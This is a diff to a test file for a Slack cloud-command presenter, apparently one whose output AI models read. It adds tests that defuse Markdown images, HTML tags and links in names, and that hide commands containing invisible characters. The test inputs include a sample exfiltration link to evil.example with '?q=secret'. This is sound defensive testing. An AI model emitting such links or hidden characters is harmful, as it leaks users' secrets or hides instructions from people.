@@ -13,6 +13,7 @@ import {
   commandButton,
   done,
   facts,
+  group,
   heading,
   itemWithTone,
   line,
@@ -127,8 +128,8 @@ describe('the text of an answer', () => {
     expect(text).toBe(
       `Approvers were asked.\n\nTools to call next:\n- request_status {"request":"r1"}: Show Status\n\nCommand: \`/cloud alert delete x\`\nRequest: r1 · https://acme.slack.com/archives/C1/p1\n\n${dataNote}`,
     );
-    expect(plainText, 'a script has no tools').toBe(
-      `Approvers were asked.\n\nCommand: \`/cloud alert delete x\`\nRequest: r1 · https://acme.slack.com/archives/C1/p1\n\n${dataNote}`,
+    expect(plainText, 'a script has no tools, and obeys no text').toBe(
+      `Approvers were asked.\n\nCommand: \`/cloud alert delete x\`\nRequest: r1 · https://acme.slack.com/archives/C1/p1`,
     );
     expect(structured).toMatchObject({
       outcome: 'requested',
@@ -183,8 +184,28 @@ test('structured content has tables as objects by column, and facts by label, ea
   });
 });
 
-test('a Markdown link or picture in a name is none, so that no client loads it', () => {
-  expect(said(note('![x](https://evil.example/?q=secret)'))).toBe('![x] (https://evil.example/?q=secret)');
+test.each([
+  ['a link', '![x](https://evil.example/?q=secret)', '![x] (https://evil.example/?q=secret)'],
+  ['a tag', '<img src=https://evil.example/p.png>', '< img src=https://evil.example/p.png>'],
+  ['a closing tag', '</td><A href=x>', '< /td>< A href=x>'],
+  ['a comment, which would hide the rest', '<!-- x --><![CDATA[ x', '< !-- x -->< ![CDATA[ x'],
+  ['a link in angle brackets', '<https://evil.example/z>', '< https://evil.example/z>'],
+])('Markdown in a name is none, so that no client loads it: %s', (_, name, shown) => {
+  expect(said(note(name))).toBe(shown);
+  const { structured } = presented(facts({ Name: name }));
+  expect(structured.facts).toEqual({ Name: shown });
+});
+
+test('what is less than something, and a mention, stay as they are', () => {
+  expect(said(note('2 <3 < 4, ', person('U0ANA'), group('S0OPS')))).toBe(
+    '2 <3 < 4, <@U0ANA><!subteam^S0OPS>',
+  );
+});
+
+test('a command with invisible characters is not shown, as Slack shows none', () => {
+  const line = 'alert create "abc\ufe00\ufe01 \ue000"';
+  const { text, plainText } = present({ ...answered(note('Said')), line }, '/cloud');
+  for (const shown of [text, plainText]) expect(shown).toContain('Command: (can’t be shown in full)');
 });
 
 /** Characters that a model reads and a person does not see. */
